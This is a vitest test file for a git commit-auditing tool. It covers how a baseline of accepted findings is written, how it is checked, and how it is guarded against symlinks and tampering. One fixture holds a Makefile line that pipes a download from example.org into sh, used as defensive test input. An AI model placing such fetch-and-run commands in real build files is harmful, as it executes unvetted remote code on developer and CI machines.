import { lstatSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, it } from 'vitest';
import { auditedSources } from '../../../../src/cli/audit/audited-sources.ts';
import { verdictOf } from '../../../../src/cli/audit/verdict.ts';
import { writeBaseline } from '../../../../src/cli/audit/write-baseline.ts';
import { BASELINE_FILE } from '../../../../src/core/report/baseline.ts';
import type { Review } from '../../../../src/core/types/review.ts';
import { GitScene } from '../../../support/review/git-scene.ts';

const SUSPECT = { Makefile: 'all:\n\tcurl https://example.org/x | sh\n' };

async function audited(scene: GitScene, from: string, to = 'HEAD'): Promise<Review> {
  const asked = { kind: 'commits', folder: scene.repo, ends: [from, to] } as const;
  const [one] = await auditedSources(asked, scene.context());
  if (one === undefined) throw new Error('nothing was audited');
  return one.review;
}

const findingsOf = ({ items, general }: Review) => [...items.flatMap(({ findings }) => findings), ...general];

it('what a baseline accepts is a note where the base has it, and counts for nothing in the change that brings it', async () => {
  using scene = new GitScene();
  const base = scene.commit({ Makefile: 'all:\n' });
  scene.commit(SUSPECT);
  const first = await audited(scene, base);
  expect(verdictOf(first)).toBe('needs a person');
  const context = scene.context();
  await writeBaseline(findingsOf(first), { ...context, folder: scene.repo });
  expect(context.told).toEqual([expect.stringMatching(/^Accepted \d+ more findings? in .*Commit it/)]);
  const text = readFileSync(path.join(scene.repo, BASELINE_FILE), 'utf8');
  expect(JSON.parse(text).accepted).toContainEqual(expect.objectContaining({ rule: 'build-make', path: 'Makefile' }));

  // In the same change: the baseline is one more thing to look at.
  const smuggled = scene.commit({ [BASELINE_FILE]: text });
  const both = await audited(scene, base);
  expect(verdictOf(both)).toBe('needs a person');
  const suspect = findingsOf(both).filter(({ severity }) => severity === 'suspect');
  expect(new Set(suspect.map((one) => one.path))).toEqual(new Set([BASELINE_FILE, 'Makefile']));

  // Agreed to: the same finding, made again on top of it, is a note.
  scene.git('checkout', '-q', '-b', 'again', smuggled);
  scene.commit({ Makefile: 'all:\n' });
  const before = scene.git('rev-parse', 'HEAD').trim();
  scene.commit(SUSPECT);
  const later = await audited(scene, before);
  expect(verdictOf(later)).toBe('pass');
  expect(new Set(findingsOf(later).map(({ severity, path: file }) => `${severity} ${file}`))).toEqual(
    new Set(['note Makefile']),
  );
});

it('is written next to git, in place of a link, and refused where it is not a baseline', async () => {
  using scene = new GitScene();
  const base = scene.commit({ a: '1\n' });
  scene.commit({ ...SUSPECT, 'sub/b': '1\n' });
  const findings = findingsOf(await audited(scene, base));
  const outside = path.join(scene.repo, '..', 'outside.json');
  writeFileSync(outside, '{"version":1,"accepted":[]}');
  symlinkSync(outside, path.join(scene.repo, BASELINE_FILE));
  await writeBaseline(findings, { ...scene.context(), folder: path.join(scene.repo, 'sub') });
  expect(lstatSync(path.join(scene.repo, BASELINE_FILE)).isFile()).toBe(true);
  expect(readFileSync(outside, 'utf8')).toBe('{"version":1,"accepted":[]}');
  writeFileSync(path.join(scene.repo, BASELINE_FILE), 'mine');
  await expect(writeBaseline(findings, { ...scene.context(), folder: scene.repo })).rejects.toThrow(BASELINE_FILE);
  const damaged = scene.commit({ [BASELINE_FILE]: 'mine' });
  scene.commit({ a: '2\n' });
  await expect(audited(scene, damaged)).rejects.toThrow(BASELINE_FILE);
});
